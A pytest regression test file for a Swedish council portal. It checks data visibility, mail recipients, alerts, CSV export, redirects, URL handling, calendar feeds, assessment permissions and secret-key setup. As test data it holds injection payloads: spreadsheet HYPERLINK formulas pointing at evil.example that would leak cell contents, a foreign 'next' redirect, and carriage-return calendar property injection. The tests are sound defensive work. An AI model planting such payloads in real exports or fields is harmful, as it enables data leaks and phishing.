"""Regression tests for the independent probe's findings (issue 13): what a wider
audience receives is built from what that audience may see; headers, CSV cells and
calendar lines built from typed text cannot be turned into something else; a bad URL
part, a hostile ``next`` or a failing bevakning never breaks the portal."""

from __future__ import annotations

import csv
import datetime
import io
import itertools
import os
import re
import subprocess
import sys
from typing import Any
from unittest import mock

import icalendar
import pytest
from django.conf import settings
from django.core import mail
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from councils import alerts, services
from councils.models import Meeting, Watch
from tests.conftest import client_for, csv_text
from tests.factories import make_case

pytestmark = pytest.mark.django_db

INTERNAL = "Intern titel om enskild"  # the world's case: its internal title
PUBLIC = "Samverkansfråga"  # and the title the public is shown
SECRET_SUBJECT = "Hemlig bilaga med personuppgifter"  # its confidential document


def _meeting(world: dict[str, Any], *, days: int = 20, **fields: Any) -> Meeting:
    (meeting,) = services.meeting_plan(
        actor=None,
        body=world["body_a"],
        starts=[timezone.now() + datetime.timedelta(days=days)],
        place="Regionens hus",
    )
    for name, value in fields.items():
        setattr(meeting, name, value)
    meeting.save()
    services.agenda_add_case(actor=None, meeting=meeting, case=world["case"], public=True)
    return meeting


# --- 1. The § starts from public fields only ----------------------------------------------


def test_a_new_paragraph_takes_the_public_title_and_public_subjects(world: dict[str, Any]) -> None:
    meeting = _meeting(world, days=0)
    (paragraph,) = services.paragraphs_create_for_agenda(actor=None, meeting=meeting)
    assert paragraph.title == f"{PUBLIC} ({world['case'].diarienummer})"
    assert paragraph.basis == "Offentlig tjänsteskrivelse"
    assert INTERNAL not in paragraph.title
    assert SECRET_SUBJECT not in paragraph.basis


def test_a_justerad_paragraph_shows_the_public_nothing_internal(world: dict[str, Any]) -> None:
    """Omedelbar justering publishes the § at once: the decision list, its CSV, search
    and the protocol page carry the public title and no confidential subject."""
    meeting = _meeting(world, days=0)
    (paragraph,) = services.paragraphs_create_for_agenda(actor=None, meeting=meeting)
    services.paragraph_approve_immediately(actor=None, paragraph=paragraph)
    public = client_for(None)
    for url in ("/beslut/", "/beslut/export.csv", f"/sok/?q={PUBLIC}", "/sok/?q=enskild"):
        response = public.get(url)
        text = csv_text(response) if url.endswith(".csv") else response.content.decode()
        assert INTERNAL not in text, url
        assert SECRET_SUBJECT not in text, url
    assert PUBLIC in public.get("/beslut/").content.decode()


def test_the_secretariat_is_warned_of_a_paragraph_repeating_a_confidential_text(
    world: dict[str, Any],
) -> None:
    meeting = _meeting(world, days=0)
    (paragraph,) = services.paragraphs_create_for_agenda(actor=None, meeting=meeting)
    url = f"/sammantraden/{meeting.pk}/protokoll/"
    warning = "Denna offentliga § upprepar text från en sekretessbelagd källa"
    assert warning not in client_for(world["secretariat"]).get(url).content.decode()
    services.paragraph_update(
        actor=None, paragraph=paragraph, title=INTERNAL, basis=f"{SECRET_SUBJECT}\nAnnat"
    )
    page = client_for(world["secretariat"]).get(url).content.decode()
    assert warning in page
    assert f"<li>{INTERNAL}</li>" in page
    assert f"<li>{SECRET_SUBJECT}</li>" in page
    services.paragraph_update(actor=None, paragraph=paragraph, public=False)  # a closed item
    assert warning not in client_for(world["secretariat"]).get(url).content.decode()


def test_a_closed_paragraphs_extract_is_filed_as_confidential(world: dict[str, Any]) -> None:
    """The extract of a closed § is registered on the ärende for the record; it is
    not a public document."""
    meeting = _meeting(world, days=0)
    (paragraph,) = services.paragraphs_create_for_agenda(actor=None, meeting=meeting)
    services.paragraph_update(
        actor=None, paragraph=paragraph, public=False, extract_to="Krokoms kommun"
    )
    services.paragraph_approve_immediately(actor=None, paragraph=paragraph)
    protocol = meeting.protocol
    with mock.patch("councils.services.justering.render_job_run") as run:
        run.return_value.file.read.return_value = b"%PDF-1.7 extract"
        run.return_value.file_name = "utdrag.pdf"
        services.extracts_dispatch(protocol=protocol)
    extract = world["case"].documents.get(kind="protokollsutdrag")
    assert extract.confidential
    assert client_for(None).get(extract.get_absolute_url()).status_code == 404


# --- 2 and 11. The kallelse mail ----------------------------------------------------------


def test_each_kallelse_mail_carries_only_what_its_recipient_may_see(
    world: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    meeting = _meeting(world, invitees="gast@example.org")
    with django_capture_on_commit_callbacks(execute=True):
        services.kallelse_send(actor=None, meeting=meeting)
    by_address = {message.to[0]: message.body for message in mail.outbox}
    member = by_address[world["member_a"].person.email]
    observer = by_address[world["observer_a"].person.email]
    invitee = by_address["gast@example.org"]
    assert INTERNAL in member
    for body in (observer, invitee):
        assert INTERNAL not in body
        assert f"{world['case'].diarienummer} {PUBLIC}" in body


def test_invitees_get_the_kallelse_when_no_member_has_an_address(
    world: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    from councils.models import Person

    Person.objects.update(email="")
    meeting = _meeting(world, invitees="gast@example.org\nannan@example.org")
    with django_capture_on_commit_callbacks(execute=True):
        services.kallelse_send(actor=None, meeting=meeting)
    assert sorted(m.to[0] for m in mail.outbox) == ["annan@example.org", "gast@example.org"]
    assert all(m.subject.startswith("Kallelse: Regionens samverkansråd") for m in mail.outbox)
    meeting.refresh_from_db()
    assert meeting.kallelse_delivered_at is not None  # not retried by the sweep


# --- 3. Bevakningar -------------------------------------------------------------------------


def test_a_newline_in_a_saved_search_does_not_stop_the_bevakning_mails(
    world: dict[str, Any],
) -> None:
    user = world["member_a"]
    bad = services.watch_add(actor=user, kind=Watch.Kind.SEARCH, query="infrastruktur\nlänet")
    arena = services.watch_add(actor=world["member_b"], kind=Watch.Kind.BODY, body=world["body_a"])
    Watch.objects.update(checked_until=timezone.now() - datetime.timedelta(days=1))
    make_case(body=world["body_a"], title="Infrastruktur i länet")
    meeting = _meeting(world)
    Meeting.objects.filter(pk=meeting.pk).update(kallelse_sent_at=timezone.now())
    assert services.alerts_send() == 2
    subjects = {m.to[0]: m.subject for m in mail.outbox}
    assert subjects[user.email] == "Bevakning: ”infrastruktur länet”"
    assert world["member_b"].email in subjects
    bad.refresh_from_db()
    arena.refresh_from_db()
    assert bad.failed_at is None
    assert arena.last_sent_at is not None


def test_one_failing_bevakning_is_recorded_and_the_others_are_sent(world: dict[str, Any]) -> None:
    failing = services.watch_add(
        actor=world["member_a"], kind=Watch.Kind.BODY, body=world["body_a"]
    )
    working = services.watch_add(
        actor=world["member_b"], kind=Watch.Kind.BODY, body=world["body_a"]
    )
    Watch.objects.update(checked_until=timezone.now() - datetime.timedelta(days=1))
    meeting = _meeting(world)
    Meeting.objects.filter(pk=meeting.pk).update(kallelse_sent_at=timezone.now())
    real = alerts.watch_news

    def news(watch: Watch, *, since: datetime.datetime) -> list[alerts.Item]:
        if watch.pk == failing.pk:
            raise RuntimeError("the mail server said no")
        return real(watch, since=since)

    with mock.patch("councils.alerts.watch_news", side_effect=news):
        assert services.alerts_send() == 1
    failing.refresh_from_db()
    working.refresh_from_db()
    assert [m.to[0] for m in mail.outbox] == [world["member_b"].email]
    assert failing.failed_at is not None
    assert failing.failure == "RuntimeError: the mail server said no"
    assert failing.last_sent_at is None  # the news is kept for the next run
    assert working.last_sent_at is not None
    page = client_for(world["member_a"]).get("/bevakningar/").content.decode()
    assert "kunde inte skickas" in page
    assert services.alerts_send() == 1  # the next run sends it, and clears the failure
    failing.refresh_from_db()
    assert failing.failed_at is None


# --- 4. CSV cells -------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(
    world: dict[str, Any], start: str
) -> None:
    title = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klicka")'
    make_case(body=world["body_a"], title=title)
    text = csv_text(client_for(None).get("/diarium/export.csv"))
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [row[1] for row in rows[1:] if "HYPERLINK" in row[1]]
    assert cells == ["'" + title]


def test_a_kommuns_assessment_comment_reaches_the_regions_csv_as_text(
    pact: dict[str, Any],
) -> None:
    from followups import services as followup_services

    agreement, year = pact["agreement"], 2019
    area = agreement.areas.first()
    followup_services.assessments_save(
        actor=pact["krokom"],
        agreement=agreement,
        year=year,
        scores={area: (3, '=HYPERLINK("https://evil.example")')},
    )
    text = csv_text(
        client_for(pact["secretariat"]).get(
            f"/overenskommelser/{agreement.pk}/bedomning/{year}/export.csv"
        )
    )
    assert "'=HYPERLINK" in text
    assert ";=HYPERLINK" not in text


# --- 7. No open redirect -------------------------------------------------------------------


def test_setting_up_two_step_verification_does_not_follow_a_foreign_next(
    world: dict[str, Any],
) -> None:
    from django_otp.oath import totp

    from base import two_factor

    user = world["member_a"]
    client = client_for(user)
    client.get("/konto/tvastegs/ny/")
    device = two_factor.pending_device(user)
    code = f"{totp(device.bin_key, step=device.step, digits=device.digits):06d}"
    response = client.post("/konto/tvastegs/ny/?next=https://evil.example/", {"code": code})
    assert response.status_code == 302
    assert response["Location"] == "/konto/"


# --- 8. Malformed URL parts ------------------------------------------------------------------


PART = re.compile(r"<(?:(\w+):)?\w+>")
SAMPLES = {
    "id": ["2147483648", "99999999999999999999"],
    "secret": ["%00", "%00" * 20, "a" * 43],
    "signed": ["%00", "x:y"],
    "slug": ["x"],
    "str": ["%00"],
    "path": ["%00"],
}


def _urls() -> list[str]:
    """Every URL the portal routes, with each part filled with a malformed value: an
    id past PostgreSQL's integer, a NUL in a token, a slug that names nothing."""
    urls: set[str] = set()

    def walk(patterns: Any, prefix: str) -> None:
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                if not route.startswith(("admin/", "^")):
                    walk(pattern.url_patterns, route)
            elif isinstance(pattern, URLPattern) and "<" in route and "^" not in route:
                kinds = [kind or "str" for kind in PART.findall(route)]
                for combo in itertools.product(*(SAMPLES[kind] for kind in kinds)):
                    parts = route.split("<")
                    filled = parts[0] + "".join(
                        value + part.split(">", 1)[1]
                        for value, part in zip(combo, parts[1:], strict=True)
                    )
                    urls.add("/" + filled)

    walk(get_resolver().url_patterns, "")
    return sorted(urls)


def test_no_url_answers_a_malformed_part_with_a_server_error(world: dict[str, Any]) -> None:
    urls = _urls()
    assert "/kalender/privat/%00.ics" in urls
    assert len(urls) > 100
    for who in (None, world["secretariat"]):
        client = client_for(who)
        client.raise_request_exception = False
        for url in urls:
            assert client.get(url).status_code < 500, url
        for url in ("/sok/?q=%00", "/diarium/?q=%00&year=%00", "/beslut/?q=%00&year=%00"):
            assert client.get(url).status_code < 500, url


# --- 9. OParl references ---------------------------------------------------------------------


def test_a_paper_lists_only_the_consultations_its_reader_may_see(world: dict[str, Any]) -> None:
    """A closed item on an agenda whose kallelse has not gone out is not named to the
    public; every consultation a paper lists answers 200 to the same caller."""
    (meeting,) = services.meeting_plan(
        actor=None, body=world["body_a"], starts=[timezone.now() + datetime.timedelta(days=9)]
    )
    closed = services.agenda_add_case(actor=None, meeting=meeting, case=world["case"], public=False)
    url = f"/api/oparl/v1/papers/{world['case'].pk}"
    public = client_for(None).get(url).json()
    assert public["consultation"] == []
    member = client_for(world["member_a"]).get(url).json()
    assert len(member["consultation"]) == 1
    (embedded,) = member["consultation"]
    consultation_url = embedded["id"]
    member_client = client_for(world["member_a"])
    consultation = member_client.get(consultation_url).json()
    assert consultation == embedded
    assert consultation["agendaItem"].endswith(f"/agendaitems/{closed.pk}")
    for key in ("agendaItem", "meeting"):
        assert member_client.get(consultation[key]).status_code == 200
    assert client_for(None).get(consultation_url).status_code == 404


# --- 10. iCalendar --------------------------------------------------------------------------


def test_a_carriage_return_in_a_place_does_not_add_a_calendar_property(
    world: dict[str, Any],
) -> None:
    meeting = _meeting(world)
    Meeting.objects.filter(pk=meeting.pk).update(
        place="Östersund\rATTENDEE:mailto:evil@example.org\nX-INJECTED:1"
    )
    text = client_for(None).get(f"/arenor/{world['body_a'].slug}/kalender.ics").content.decode()
    lines = text.split("\r\n")
    assert not any(line.startswith(("ATTENDEE", "X-INJECTED")) for line in lines)
    assert "\r" not in text.replace("\r\n", "")
    (event,) = icalendar.Calendar.from_ical(text).walk("VEVENT")
    assert str(event["LOCATION"]) == "Östersund ATTENDEE:mailto:evil@example.org\nX-INJECTED:1"
    assert "ATTENDEE" not in event


# --- 5. Who sets a kommun's assessment --------------------------------------------------------


def test_only_a_designated_bedomningsansvarig_sets_the_kommuns_assessment(
    pact: dict[str, Any],
) -> None:
    from django.core.exceptions import PermissionDenied

    from councils.models import Membership
    from followups import services as followup_services
    from followups.models import Assessment
    from tests.factories import MembershipFactory, PersonFactory, UserFactory

    berg = pact["kommuner"]["Berg"]
    agreement = pact["agreement"]
    area = agreement.areas.first()
    member = UserFactory(username="ledamot_berg")
    person = PersonFactory(user=member, organisation=berg)
    MembershipFactory(person=person, body=pact["body_a"], role=Membership.Role.MEMBER)
    followup_services.assessments_save(
        actor=pact["berg"], agreement=agreement, year=2019, scores={area: (2, "")}
    )
    with pytest.raises(PermissionDenied):
        followup_services.assessments_save(
            actor=member, agreement=agreement, year=2019, scores={area: (4, "")}
        )
    url = f"/overenskommelser/{agreement.pk}/bedomning/2019/"
    client = client_for(member)
    page = client.get(url).content.decode()
    assert "Bergs kommun" in page  # the kommun's own row, to read
    assert f'name="score_{area.pk}"' not in page
    assert client.post(url, {f"score_{area.pk}": "4"}).status_code == 403
    assert Assessment.objects.get(organisation=berg, area=area).score == 2

    # The secretariat names the member on the kommun's page; then the member may assess.
    secretariat = client_for(pact["secretariat"])
    organisation_page = secretariat.get(f"/organisationer/{berg.slug}/").content.decode()
    assert f"/organisationer/{berg.slug}/bedomningsansvarig/" in organisation_page
    assert (
        client_for(None)
        .get(f"/organisationer/{berg.slug}/")
        .content.decode()
        .count("bedomningsansvarig/")
        == 0
    )
    assert client.post(
        f"/organisationer/{berg.slug}/bedomningsansvarig/", {"person": person.pk}
    ).status_code in (302, 403)
    assert not person.organisation_roles.exists()  # a member cannot name themselves
    secretariat.post(f"/organisationer/{berg.slug}/bedomningsansvarig/", {"person": person.pk})
    role = person.organisation_roles.get()
    assert client.post(url, {f"score_{area.pk}": "4", f"comment_{area.pk}": ""}).status_code == 302
    assert Assessment.objects.get(organisation=berg, area=area).score == 4
    secretariat.post(f"/organisationer/bedomningsansvarig/{role.pk}/ta-bort/")
    assert not person.organisation_roles.exists()
    assert role.history.count() == 2  # granted and removed, each recorded


# --- 13. A secret key of the installation's own ---------------------------------------------


PRINT_KEY = [sys.executable, "-c", "from samverkan import settings; print(settings.SECRET_KEY)"]


def _environment(data_dir: Any, **env: str) -> dict[str, str]:
    """A clean process's environment: no key, this data folder, and a database URL so
    that reading the settings starts no embedded server (nothing connects to it)."""
    return {
        **{k: v for k, v in os.environ.items() if k != "DJANGO_SECRET_KEY"},
        "SAMVERKAN_DATA_DIR": str(data_dir),
        "DATABASE_URL": "postgres://postgres@127.0.0.1:5432/unused",
        **env,
    }


def _key_in(data_dir: Any, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(  # noqa: S603 - our own settings in a clean interpreter
        PRINT_KEY,
        env=_environment(data_dir, **env),
        capture_output=True,
        text=True,
        check=False,
        cwd=settings.BASE_DIR,
    )


def test_each_development_install_makes_its_own_random_secret_key(tmp_path: Any) -> None:
    first, second = tmp_path / "one", tmp_path / "two"
    starts = [  # several processes starting at once agree on one key
        subprocess.Popen(  # noqa: S603
            PRINT_KEY,
            env=_environment(first),
            stdout=subprocess.PIPE,
            text=True,
            cwd=settings.BASE_DIR,
        )
        for _ in range(4)
    ]
    keys = {process.communicate()[0].strip() for process in starts}
    assert len(keys) == 1
    (key,) = keys
    assert len(key) >= 50
    assert key != "development-only-key-not-for-production"
    assert _key_in(first).stdout.strip() == key  # kept for the next start
    assert (first / "secret-key").stat().st_mode & 0o777 == 0o600
    assert _key_in(second).stdout.strip() not in ("", key)  # another install, another key


def test_production_refuses_to_start_without_a_secret_key(tmp_path: Any) -> None:
    result = _key_in(tmp_path, DJANGO_ENV="production", DJANGO_ALLOWED_HOSTS="portal.example")
    assert result.returncode != 0
    assert "DJANGO_SECRET_KEY must be set in production" in result.stderr
    assert not (tmp_path / "secret-key").exists()
